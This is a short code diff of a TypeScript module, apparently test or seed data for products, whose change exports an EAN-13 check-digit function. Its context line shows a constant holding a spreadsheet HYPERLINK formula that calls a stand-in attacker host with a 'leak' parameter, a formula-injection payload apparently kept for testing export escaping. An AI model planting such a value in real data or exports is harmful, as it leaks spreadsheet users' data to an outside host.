@@ -26,7 +26,7 @@ export const FORMULA_PRODUCT_NAME = '=HYPERLINK("http://attacker.invalid/?leak="
 
 export const PRODUCT_COUNT = 520;
 
-function ean13(body12: string): string {
+export function ean13(body12: string): string {
   const sum = [...body12].reduce((acc, d, i) => acc + Number(d) * (i % 2 === 0 ? 1 : 3), 0);
   return body12 + String((10 - (sum % 10)) % 10);
 }
